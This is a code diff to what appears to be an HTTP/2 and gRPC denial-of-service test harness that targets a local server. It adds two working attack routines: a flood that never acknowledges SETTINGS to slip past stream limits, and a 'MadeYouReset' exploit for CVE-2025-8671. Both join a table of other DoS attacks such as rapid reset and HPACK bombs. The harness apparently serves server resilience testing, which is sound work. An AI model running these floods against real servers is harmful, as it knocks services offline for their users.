@@ -25,8 +25,8 @@ import hpack
 import harness
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
-    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9)
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
+    0x0, 0x1, 0x2, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9)
 END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
 CANCEL = 0x8
 GOAWAY_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR",
@@ -78,6 +78,7 @@ class Outcome:
         self.closed_after = None  # seconds from start to EOF/reset, None = still open
         self.goaway = None        # error code of the first GOAWAY
         self.resets = 0           # RST_STREAM frames received
+        self.ended = 0            # streams the server ended (trailers or RST_STREAM)
         self.sent = 0             # bytes written
         self.streams = 0          # streams opened
         self.connections = 0      # connections opened (multi-connection attacks)
@@ -111,8 +112,10 @@ class Conn:
     the server's frames (ACKs its SETTINGS, tracks window credit, GOAWAY and
     RST_STREAM); with read=False nothing is ever read."""
 
-    def __init__(self, port, outcome, read=True, preface=True, client_settings=None):
+    def __init__(self, port, outcome, read=True, preface=True, client_settings=None,
+                 ack_settings=True):
         self.out = outcome
+        self.ack_settings = ack_settings
         self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
         self.sock.setblocking(False)
         self.closed = False
@@ -181,11 +184,15 @@ class Conn:
 
     def _frame(self, ftype, flags, sid, payload):
         if ftype == SETTINGS and not flags & ACK:
-            self.send(frame(SETTINGS, ACK, 0), time.monotonic() + 1)
+            if self.ack_settings:
+                self.send(frame(SETTINGS, ACK, 0), time.monotonic() + 1)
         elif ftype == GOAWAY and self.out.goaway is None and len(payload) >= 8:
             self.out.goaway = int.from_bytes(payload[4:8], "big")
         elif ftype == RST_STREAM:
             self.out.resets += 1
+            self.out.ended += 1
+        elif ftype == HEADERS and flags & END_STREAM:
+            self.out.ended += 1
         elif ftype == WINDOW_UPDATE and sid == 0 and len(payload) >= 4:
             with self.lock:
                 self.conn_window += int.from_bytes(payload, "big") & 0x7FFFFFFF
@@ -265,6 +272,66 @@ def rapid_reset(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, product_
     while time.monotonic() < deadline and out.sent < max_bytes and \
             (max_streams is None or out.streams < max_streams):
         if not c.send(batch(), deadline):
+            break
+    return c, out
+
+
+def unacked_settings(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, max_streams=None):
+    """A client that reads everything but never acknowledges the server's
+    SETTINGS: the 1.51 core holds it to its stream limit only once they are
+    acknowledged, so it may open streams (HEADERS + DATA, GetProduct) as
+    fast as it writes them and never wait for an answer. With max_streams,
+    at most that many."""
+    out = Outcome("unacked_settings")
+    c = Conn(port, out, ack_settings=False)
+    block = request_block(port, GET)
+    body = grpc_message(b"\x0a\x01x")
+    sid = [1]
+
+    def batch():
+        parts = []
+        for _ in range(100):
+            s = sid[0]
+            parts.append(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, body))
+            sid[0] += 2
+            out.streams += 1
+        return b"".join(parts)
+    deadline = out.started + seconds
+    while time.monotonic() < deadline and out.sent < max_bytes and \
+            (max_streams is None or out.streams < max_streams):
+        if not c.send(batch(), deadline):
+            break
+    return c, out
+
+
+def made_you_reset(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, in_flight=50):
+    """CVE-2025-8671: frames after a complete request that a server answers
+    with RST_STREAM (DATA or HEADERS after END_STREAM, a PRIORITY making the
+    stream depend on itself), taking turns. A server that resets the stream
+    at once frees its slot while the call still runs, and the client opens
+    the next: calls pile up as in a rapid reset without a RST_STREAM of the
+    client's. Paced to in_flight streams the server has not ended, so the
+    stream limit never closes it."""
+    out = Outcome("made_you_reset")
+    c = Conn(port, out)
+    block = request_block(port, GET)
+    body = grpc_message(b"\x0a\x01x")
+    tails = (lambda s: frame(DATA, END_STREAM, s, b"\x00"),
+             lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, block),
+             lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", s, 16)))
+    sid = 1
+    deadline = out.started + seconds
+    while time.monotonic() < deadline and out.sent < max_bytes and not c.closed:
+        if out.streams - out.ended >= in_flight:
+            time.sleep(0.001)
+            continue
+        parts = []
+        for _ in range(10):
+            parts.append(frame(HEADERS, END_HEADERS, sid, block) +
+                         frame(DATA, END_STREAM, sid, body) + tails[(sid // 2) % 3](sid))
+            sid += 2
+            out.streams += 1
+        if not c.send(b"".join(parts), deadline):
             break
     return c, out
 
@@ -490,6 +557,7 @@ ATTACKS = {
     "zero_window": zero_window, "idle_connections": idle_connections,
     "hpack_bomb": hpack_bomb, "empty_data": empty_data, "continuation": continuation,
     "settings_flood": settings_flood, "slowloris": slowloris,
+    "unacked_settings": unacked_settings, "made_you_reset": made_you_reset,
 }
 
 
